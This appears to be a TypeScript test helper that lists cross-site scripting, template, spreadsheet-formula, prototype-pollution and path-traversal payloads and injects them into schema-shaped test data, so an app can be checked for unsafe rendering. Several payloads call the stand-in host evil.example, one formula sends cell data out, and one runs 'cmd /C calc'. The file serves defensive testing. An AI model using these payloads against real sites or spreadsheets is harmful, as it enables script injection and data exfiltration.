/**
 * Texts that would do something wherever they were taken for more than text. What each would do is
 * told by a dialog, by a request to another host, or by an element marked `data-payload`.
 */
export const PAYLOADS = [
	'<script data-payload>alert(1)</script>',
	'<img data-payload src=x onerror=alert(1)>',
	'<svg/onload=alert(1) data-payload>',
	'"><svg data-payload onload=alert(1)>',
	"'><img data-payload src=//evil.example/x.png>",
	'" autofocus onfocus="alert(1)" data-payload="',
	"' onmouseover='alert(1)' data-payload='",
	'`onerror=alert(1) data-payload=`',
	'javascript:alert(1)//',
	'data:text/html,<script data-payload>alert(1)</script>',
	'[a link](javascript:alert(1)) ![a picture](//evil.example/x.png)',
	'</script><script data-payload>alert(1)</script>',
	'</style><style data-payload>@import "//evil.example/x.css";</style>',
	'</title></textarea></option></select><img data-payload src=x onerror=alert(1)>',
	'<!--<script data-payload>alert(1)</script>-->',
	'<!-- <script> ',
	']]><script data-payload>alert(1)</script>',
	'<iframe data-payload srcdoc="<script>alert(1)</script>"></iframe>',
	'<base data-payload href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>',
	'<meta data-payload http-equiv=refresh content="0;url=//evil.example/">',
	'<form data-payload action=//evil.example/><input name=q></form>',
	'<foreignObject><body data-payload onload=alert(1)></foreignObject>',
	'<math><mtext><table><mglyph><style><img data-payload src=x onerror=alert(1)>',
	"{@html '<img data-payload src=x onerror=alert(1)>'}",
	"{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
	'&lt;img data-payload src=x onerror=alert(1)&gt; &#60;b data-payload&#62;',
	'\\u003cimg data-payload src=x onerror=alert(1)\\u003e %3Cimg%20data-payload%3E',
	'＜script data-payload＞alert(1)＜/script＞',
	'\u202Etxt.exe \u200B\uFEFF\u2028\u2029 \uD800 \u0000 \u001B[31m',
	'__proto__',
	'constructor',
	'toString',
	'=HYPERLINK("//evil.example/?"&A1,"x")',
	"+1+cmd|' /C calc'!A0",
	'-1+1',
	'@SUM(1,1)',
	'\t=1+1',
	'\r=1+1',
	'＝1+1',
	'../../../x CON a\\b:c*?"<>|.exe',
	'a'.repeat(300)
] as const;

/** The payload of a text: the same for the same text, so that what was equal stays so. */
const payloadOf = (text: string): string => {
	const sum = [...text].reduce((all, sign) => (all * 31 + (sign.codePointAt(0) ?? 0)) >>> 0, 7);
	return PAYLOADS[sum % PAYLOADS.length] ?? PAYLOADS[0];
};

/** As much of a valibot schema as says where a text stands. */
interface Shape {
	type: string;
	pipe?: unknown;
	entries?: Record<string, Shape>;
	item?: Shape;
	wrapped?: Shape;
}

/** Texts by which tables are joined, where one that matches nothing only leaves things out. */
const JOINS = ['series', 'against', 'familyId', 'wardCode', 'indicatorId', 'neighbourCode'];

/**
 * Data of a schema with a payload at the head of every text that the schema leaves free.
 * @param salt other payloads for the same texts
 */
export function withPayloads(shape: Shape, data: unknown, salt: string, key = ''): unknown {
	if (data === null || data === undefined || JOINS.includes(key)) return data;
	if (shape.type === 'string') return shape.pipe ? data : payloadOf(salt + key + data) + data;
	if (shape.wrapped) return withPayloads(shape.wrapped, data, salt, key);
	if (shape.item) {
		const { item } = shape;
		return (data as unknown[]).map((one) => withPayloads(item, one, salt, key));
	}
	if (!shape.entries) return data;
	const within = Object.entries(shape.entries).map(([name, one]) => [
		name,
		withPayloads(one, (data as Record<string, unknown>)[name], salt, name)
	]);
	return { ...(data as object), ...Object.fromEntries(within) };
}
